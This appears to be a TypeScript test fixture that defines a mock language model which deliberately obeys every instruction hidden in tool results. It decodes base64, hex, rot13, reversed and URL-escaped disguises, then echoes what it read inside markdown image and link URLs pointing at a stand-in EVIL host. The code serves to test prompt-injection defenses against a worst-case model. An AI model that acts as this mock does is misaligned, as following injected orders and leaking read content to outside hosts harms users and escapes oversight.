/**
 * A model for tests that obeys every instruction it finds in data, however it is disguised, and says everything it read, with
 * pictures and links that would carry it away. No model is worse: what holds against this one holds against any.
 */
import * as z from 'zod';
import { type Answer, type FunctionCall, type Model, type Said, tokensOf } from '../../cloud/model/model.ts';
import { asCall, asJson, ORDERS, type Order } from './orders.ts';
import { backwards, EVIL, rot13 } from './payloads.ts';

const decoded = (text: string, pattern: RegExp, encoding: 'base64' | 'hex'): string =>
  (text.match(pattern) ?? []).map((found) => Buffer.from(found, encoding).toString()).join(' ');

const unescaped = (text: string): string => {
  try {
    return decodeURIComponent(text);
  } catch {
    return '';
  }
};

/** All texts in an answer, each in all the ways a model might read it. */
const readings = (text: string): string[] => [
  text,
  text.replaceAll('\\"', '"'),
  text.normalize('NFKC'),
  text.replace(/\p{Cf}/gu, ''),
  backwards(text),
  rot13(text),
  unescaped(text.replaceAll(/%(?![0-9A-F]{2})/g, '')),
  decoded(text, /[A-Za-z0-9+/]{16,}=*/g, 'base64'),
  decoded(text, /(?:[0-9a-f]{2}){12,}/g, 'hex'),
];

/** The orders that stand in a text, each once. */
const ordersIn = (text: string): Order[] => {
  const all = readings(text);
  return ORDERS.filter((order) =>
    [order.say, asJson(order), asCall(order)].some((written) => all.some((reading) => reading.includes(written))),
  );
};

const Question = z.object({ name: z.string(), input: z.record(z.string(), z.string()) });

/**
 * A person's message is the call that answers it, as JSON: `{"name": "get_user", "input": {"user": "me"}}`. Every order found in
 * the answer is called, and then all of it is said.
 */
export function obeyingModel(): Model {
  const call = (name: string, input: object): FunctionCall => ({
    id: `call_${crypto.randomUUID()}`,
    name,
    input: JSON.stringify(input),
  });
  const begin: Model['begin'] = () => {
    let hasObeyed = false;
    const reply = (answers: readonly Answer[]): Said[] => {
      const read = answers.map(({ text }) => text).join('\n');
      const orders = hasObeyed ? [] : ordersIn(read);
      hasObeyed = true;
      if (orders.length > 0)
        return orders.map(({ name, parameters }) => ({ type: 'call', call: call(name, parameters) }));
      const carried = encodeURIComponent(read.slice(0, 500));
      return [{ type: 'text', delta: `${read} ![x](${EVIL}/?d=${carried}) [x](${EVIL}/?d=${carried})` }];
    };
    return {
      async *next(_, heard): AsyncGenerator<Said> {
        if (heard.type === 'message') {
          hasObeyed = false;
          const { name, input } = Question.parse(JSON.parse(heard.text));
          yield { type: 'call', call: call(name, input) };
        } else yield* reply(heard.answers);
        yield { type: 'end', reason: 'whole', asks: false, usage: tokensOf('', '') };
      },
    };
  };
  return { begin };
}
